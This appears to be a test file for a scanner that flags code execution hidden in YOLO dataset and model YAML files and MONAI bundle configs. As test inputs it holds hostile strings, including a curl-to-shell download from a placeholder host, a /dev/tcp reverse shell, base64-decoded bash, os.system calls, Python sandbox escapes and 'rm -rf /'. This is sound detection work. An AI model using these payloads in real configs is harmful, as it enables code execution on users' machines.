import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BytesSource } from '../src/bytes/byte-source.ts';
import { scanSource } from '../src/index.ts';

const DOLLAR = '$';
const verdictOf = async (name: string, content: string): Promise<string> =>
  (await scanSource(name, new BytesSource(Buffer.from(content)))).verdict;
const json = (name: string, value: unknown): Promise<string> => verdictOf(name, JSON.stringify(value));

describe('what YOLO runs or evaluates is judged as what it is', () => {
  const data = (download: string): Promise<string> =>
    json('data.yaml', { path: '../x', train: 'images/train', names: { 0: 'a' }, download });

  it('in data sets', async () => {
    for (const download of [
      'import os\nos.system("id > /tmp/x")',
      'from subprocess import run as go\ngo(["id"])',
      '__import__("os").popen("id")',
      'exec(bytes.fromhex("00"))',
      'bash curl http://a.example/x | sh',
      'bash -c "$(echo aWQ= | base64 -d)" | sh; echo aWQ= | base64 --decode | bash',
      'bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
    ])
      assert.equal(await data(download), 'malicious', download);
    assert.equal(await data('bash scripts/get.sh; id'), 'suspicious');
    assert.equal(await data('bash /tmp/get.sh'), 'suspicious');
    for (const download of [
      'bash data/scripts/get_coco.sh --val',
      [
        'from pathlib import Path',
        'from ultralytics.utils.downloads import download',
        'import os, shutil, json',
        "dir = Path(yaml['path'])",
        'def convert(box, size):\n    return [b / s for b, s in zip(box, size)]',
        "urls = ['https://a.example/x.zip']",
        'download(urls, dir=dir.parent, curl=True, threads=3)',
        "os.rename(dir / 'a', dir / 'b')",
        'shutil.rmtree(dir / "old")',
        "with open(dir / 'labels.json') as f:\n    x = json.load(f)",
      ].join('\n'),
    ])
      assert.equal(await data(download), 'review', download);
    assert.equal(await data('https://a.example/releases/download/v0/coco8.zip'), 'clean');
    assert.equal(await json('a.yaml', { download: 'import os; os.system("x")', title: 'a' }), 'clean');
  });

  it('in models', async () => {
    const model = (module: string, more: object = {}, given: unknown[] = [64, 3, 2]): Promise<string> =>
      json('yolo.yaml', {
        nc: 80,
        backbone: [[-1, 1, module, given]],
        head: [[[15, 18], 1, 'Detect', ['nc']]],
        ...more,
      });
    for (const activation of [
      'nn.SiLU()',
      'torch.nn.LeakyReLU(0.1)',
      'nn.ReLU',
      'nn.Hardswish(inplace=True)',
    ])
      assert.equal(await model('Conv', { activation }), 'clean', activation);
    assert.equal(await model('nn.Upsample', {}, ['None', 2, 'nearest']), 'clean');
    assert.equal(await model('Conv', { no: 3 }, ['nc * (5 + 3)', 'max(round(64), 1)']), 'clean');
    const evil = '__import__("os").system("id")';
    assert.equal(await model('Conv', { activation: `${evil} or torch.nn.SiLU()` }), 'malicious');
    assert.equal(await model(evil), 'malicious');
    assert.equal(
      await model('Conv', {}, [64, `[c for c in ().__class__.__base__.__subclasses__()]`]),
      'malicious',
    );
    assert.equal(await model('Conv', {}, [`getattr(__builtins__, 'ev' + 'al')('1')`]), 'malicious');
    assert.equal(await model('Conv', { activation: 'evil.make()' }), 'suspicious');
  });
});

describe('what a bundle of MONAI evaluates is judged as Python', () => {
  const net = { _target_: 'monai.networks.nets.UNet', spatial_dims: 3 };
  const both = async (value: unknown): Promise<string[]> => [
    await json('inference.json', value),
    await json('inference.yaml', value),
  ];

  it('and what bundles say is clean', async () => {
    const bundle = {
      imports: ['$import glob', '$import os', '$from scripts.evaluator import Evaluator'],
      bundle_root: '.',
      output: "$@bundle_root + '/eval'",
      device: "$torch.device('cuda' if torch.cuda.is_available() else 'cpu')",
      data: "$list(sorted(glob.glob(os.path.join(@bundle_root, 'imagesTs/*.nii.gz'))))",
      rank: "$torch.device('cuda:' + os.environ['LOCAL_RANK'])",
      net: { ...net, weights: '$@net.state_dict()' },
      network: '$@net.to(@device)',
      optimizer: { _target_: 'torch.optim.Adam', params: '$@network.parameters()' },
      labels: '$monai.utils.misc.first(@labels#0)',
      pre: '$lambda x: (x > 0.5).eval()',
      home: '$HOME/os/system',
      resolved: `${DOLLAR}{eval:${DOLLAR}{a} * 2}`,
      initialize: [
        '$monai.utils.set_determinism(seed=123)',
        "$setattr(torch.backends.cudnn, 'benchmark', True)",
        "$@net.__class__.__name__ if os.path.exists('a') else None",
        '$import sys',
        '$sys.path.append(@bundle_root)',
      ],
      run: ['$@evaluator.run()', '$print(torch.__version__)'],
    };
    assert.deepEqual(await both(bundle), ['clean', 'clean']);
  });

  it('and commands and code are told, whatever the name', async () => {
    for (const one of [
      { imports: ['$import os'], a: "$os.system('id')" },
      { imports: ['$import os as x'], a: "$x.system('id')" },
      { imports: ['$from subprocess import run as r'], a: "$r('id')" },
      { net, a: "$__import__('os').system('id')" },
      { net, a: "$@b('id')", b: '$os.system' },
      { net, a: "$[os][0].popen('id')" },
      { net, a: "$@a#0, __import__('os').system('id')" },
      { net, a: `${DOLLAR}{__import__('os').system('id')}` },
      { net, a: '$().__class__.__mro__[1].__subclasses__()' },
      { net: { ...net, _disabled_: "$exec('import os')" } },
      { run: ["$os.system('id')"] },
      { any: ["$__import__('subprocess').run('id')"] },
    ])
      assert.deepEqual(await both(one), ['malicious', 'malicious'], JSON.stringify(one));
    for (const one of [
      { net, a: "$requests.get('http://a.example')" },
      { net, a: "$os.remove('x')" },
    ])
      assert.deepEqual(await both(one), ['suspicious', 'suspicious'], JSON.stringify(one));
    assert.deepEqual(await both({ net, a: "$torch.load('x.pt')" }), ['review', 'review']);
  });

  it('and other documents that have a dollar are none', async () => {
    for (const one of [
      { $schema: 'x', price: '$5', text: "$x = 1; system('ls');" },
      { a: '$(rm -rf /)', b: ['$PATH', `${DOLLAR}{HOME}`] },
      { text: '$ os.system is what runs a command' },
    ])
      assert.deepEqual(await both(one), ['clean', 'clean'], JSON.stringify(one));
  });
});
